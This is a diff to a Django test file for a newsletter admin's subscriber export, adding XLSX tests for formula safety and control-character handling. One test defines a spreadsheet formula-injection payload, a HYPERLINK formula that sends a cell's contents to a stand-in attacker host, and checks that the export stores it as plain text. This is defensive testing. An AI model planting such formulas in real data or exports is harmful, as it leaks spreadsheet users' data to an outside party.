@@ -1,5 +1,6 @@
-"""nina (newsletter manager) exports the subscribers as CSV from the admin: streamed, with
-each subscriber's lists, safe to open in a spreadsheet; carl (content editor) cannot."""
+"""nina (newsletter manager) exports the subscribers from the admin: CSV streamed, with
+each subscriber's lists, CSV and XLSX safe to open in a spreadsheet; carl (content editor)
+cannot."""
 
 import csv
 import io
@@ -9,9 +10,10 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from newsletter.models import Subscription
+from newsletter.models import Subscriber, Subscription
 from tests.admin_personas import carl, nina
 from tests.factories import MailingListFactory, SubscriberFactory, SubscriptionFactory
+from tests.spreadsheets import xlsx_rows
 
 pytestmark = pytest.mark.django_db
 
@@ -117,3 +119,24 @@ def test_a_content_editor_gets_403_and_no_addresses(client, lists):
     response = client.post(reverse(EXPORT), EVERY_FIELD)
     assert response.status_code == 403
     assert b"hemlig@example.org" not in response.content
+
+
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&A3,"Klicka")'
+
+
+def test_the_xlsx_export_holds_a_formula_like_name_as_text(client, lists):
+    SubscriberFactory(email="x@example.org", name=HOSTILE)
+    client.force_login(nina())
+    (row,) = xlsx_rows(export(client, data={**EVERY_FIELD, "format": "1"}))
+    assert row["name"].data_type == "s"
+    assert row["name"].value == HOSTILE
+    assert row["email"].value == "x@example.org"
+
+
+def test_a_control_character_stored_in_a_name_does_not_stop_the_xlsx_export(client, lists):
+    # Stored before control characters were stripped on save.
+    subscriber = SubscriberFactory(email="x@example.org")
+    Subscriber.objects.filter(pk=subscriber.pk).update(name="Anna\x02 Svensson")
+    client.force_login(nina())
+    (row,) = xlsx_rows(export(client, data={**EVERY_FIELD, "format": "1"}))
+    assert row["name"].value == "Anna Svensson"
